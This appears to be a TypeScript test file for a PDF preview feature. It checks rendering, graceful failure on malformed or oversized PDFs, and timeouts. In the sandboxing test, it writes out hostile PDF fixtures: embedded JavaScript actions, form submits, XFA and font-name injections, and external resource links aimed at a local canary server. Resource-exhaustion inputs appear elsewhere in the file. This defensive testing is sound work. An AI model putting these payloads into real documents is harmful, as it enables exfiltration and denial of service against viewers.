// Files of PDF that scripts make are drawn as pictures: the good one as it is, the bad ones never more than that.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';
import { until } from '../shared/until.support.ts';
import { darkness, onePage, pdf, stream } from './pdf.support.ts';
import { stageForFile, type Tab } from './playground.support.ts';

const stage = stageForFile({ config: { policies: { default: { browser: true } } } });

const visits: string[] = [];
const canary = createServer((request, response) => {
  visits.push(request.url ?? '');
  response.end();
});
before(() => new Promise<void>((done) => void canary.listen(0, '127.0.0.1', done)));
after(() => canary.close());

/** Has a script keep the texts as files, and shows them. */
async function show(tab: Tab, texts: Readonly<Record<string, string>>): Promise<void> {
  const { page } = tab;
  await page.getByLabel('Parameters (JSON)').fill(JSON.stringify(texts));
  await tab.write(
    "for (const [name, text] of Object.entries(params)) await artifacts.write(name, text, { contentType: 'application/pdf' });",
  );
  await tab.run();
  await page.getByRole('tab', { name: 'Artifacts' }).click();
  const cards = Object.keys(texts).length;
  await until('each of them is there', async () => {
    const isBusy = (await page.locator('[aria-busy=true]').count()) > 0;
    return !isBusy && (await page.locator('.gallery li').count()) === cards;
  });
}

test('a PDF of a run with a browser shows its pages, one at a time', async () => {
  await using tab = await stage().open();
  const { page } = tab;
  await tab.write(
    `await page.setContent('<h1 style="font:99px serif">One</h1><p style="break-before:page;background:#000;height:9in">');
await page.pdf({ path: 'made.pdf', printBackground: true });`,
  );
  await tab.run();
  await page.getByRole('tab', { name: 'Artifacts' }).click();
  await page.getByText('1 of 2').waitFor();
  const first = await until('the first page is drawn', async () => {
    const found = await darkness(tab, 'made.pdf');
    return found.dark > 1_000 && found;
  });
  assert.ok(first.dark < 60_000, JSON.stringify(first));
  await page.getByRole('button', { name: 'Next page of made.pdf' }).click();
  await page.getByRole('img', { name: 'Page 2 of made.pdf' }).waitFor();
  await until('the black page is drawn', async () => {
    return (await darkness(tab, 'made.pdf')).dark > 200_000;
  });
  assert.deepEqual(tab.faults, []);
});

test('what is no PDF, or too much of one, does nothing but say so', async () => {
  await using tab = await stage().open();
  const { page } = tab;
  const kids = Array.from({ length: 10_000 }, () => '3 0 R').join(' ');
  const form =
    '<< /Type /XObject /Subtype /Form /BBox [0 0 200 200] /Resources << /XObject << /X 5 0 R >> >> /Length 5 >>';
  await show(tab, {
    'broken.pdf': '%PDF-1.7\nthe rest is missing',
    'page.pdf': '<script>window.canary = 1</script>',
    'huge.pdf': onePage({ size: '9000000 9000000' }),
    'thin.pdf': onePage({ size: '14400 0.01' }),
    'many.pdf': pdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< /Type /Pages /Kids [${kids}] /Count 10000 >>`,
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>',
      stream('0 g 20 20 100 100 re f'),
    ]),
    'itself.pdf': onePage({
      page: '/Resources << /XObject << /X 5 0 R >> >>',
      draws: '/X Do 0 g 20 20 100 100 re f',
      more: [`${form}\nstream\n/X Do\nendstream`],
    }),
  });
  for (const name of ['broken.pdf', 'page.pdf']) {
    const card = page.locator('.gallery li', { hasText: name });
    assert.match((await card.getByRole('alert').textContent()) ?? '', /^No preview\. It is no PDF/);
    await card.getByRole('button', { name: `Download ${name}` }).waitFor();
  }
  const { width, height } = await darkness(tab, 'huge.pdf');
  assert.ok(width <= 800 && width * height <= 1_000_000, `${width} × ${height}`);
  await page.getByText('1 of 10,000').waitFor();
  assert.ok((await darkness(tab, 'many.pdf')).dark > 1_000);
  assert.deepEqual(tab.faults, []);
});

test('a PDF with scripts, links and forms reaches nobody, nor does the worker that draws it', async () => {
  await using tab = await stage().open();
  const { page } = tab;
  const { port } = canary.address() as { port: number };
  const address = `http://127.0.0.1:${port}`;
  const script = `<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("${address}/js"\\); app.launchURL\\("${address}/url"\\)) >>`;
  const link = `<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /URI /URI (${address}/link) >> >>`;
  const begun = page.waitForEvent('worker', (worker) => /drawing/.test(worker.url()));
  await show(tab, {
    'hostile.pdf': onePage({
      root: `/OpenAction ${script} /AA << /WC ${script} >> /Names << /JavaScript << /Names [(a) ${script}] >> >> /AcroForm << /Fields [] /XFA 5 0 R >>`,
      page: `/AA << /O ${script} >> /Annots [${link}] /Resources << /XObject << /X 6 0 R >> /Font << /F 7 0 R >> >>`,
      more: [
        stream(`<xdp><script>window.canary=1</script><submit target="${address}/xfa"/></xdp>`),
        `<< /Type /XObject /Subtype /Image /Width 9 /Height 9 /F << /FS /URL /F (${address}/image) >> /Length 0 >>\nstream\n\nendstream`,
        `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica#22);src:url(${address}/font >>`,
      ],
    }),
  });
  assert.ok((await darkness(tab, 'hostile.pdf')).dark > 1_000);
  await page.getByRole('img', { name: 'of hostile.pdf' }).click();
  const { origin } = new URL(page.url());
  assert.deepEqual([visits, origin], [[], stage().service.url]);
  assert.deepEqual(tab.faults, []);
  // Whoever took it over would have its policy.
  const code = (await begun).url();
  const again = page.waitForEvent('worker', (worker) => worker.url() === code);
  await page.evaluate((url) => {
    const { Worker } = globalThis as unknown as {
      Worker: new (url: string, how: object) => object;
    };
    Object.assign(globalThis, { held: new Worker(url, { type: 'module' }) });
  }, code);
  const answers = await (
    await again
  ).evaluate(
    (sites) =>
      Promise.all(
        sites.flatMap((site) => [
          fetch(`${site}/v1/policies`).then(
            () => 'reached',
            () => 'refused',
          ),
          import(`${site}/code.js`).then(
            () => 'reached',
            () => 'refused',
          ),
        ]),
      ),
    [stage().service.url, address],
  );
  assert.deepEqual([answers, visits], [Array(4).fill('refused'), []]);
});

test('a PDF that takes too long is given up, and the next one is drawn', async () => {
  await using tab = await stage().open();
  const { page } = tab;
  // Ten seconds of the preview are over at once while it is in a hurry. Others wait as long: the client.
  await page.evaluate(() => {
    const { setTimeout: real } = globalThis;
    const sooner = (act: () => void, ms: number): unknown => {
      const isPreview = ms === 10_000 && /\/pages-[^/]+\.js/.test(String(new Error().stack));
      return real(act, isPreview && 'hurry' in globalThis ? 0 : ms);
    };
    Object.assign(globalThis, { setTimeout: sooner, hurry: true });
  });
  await show(tab, { 'slow.pdf': onePage() });
  await page.getByText('It was not drawn within 10 s.').waitFor();
  await page.evaluate(() => Reflect.deleteProperty(globalThis, 'hurry'));
  await show(tab, { 'good.pdf': onePage() });
  assert.ok((await darkness(tab, 'good.pdf')).dark > 1_000);
  // The browser says a moment later that a worker has ended.
  const drawing = () => page.workers().filter((worker) => /drawing/.test(worker.url()));
  await until('no worker is left', () => drawing().length === 0);
  assert.deepEqual(tab.faults, []);
});
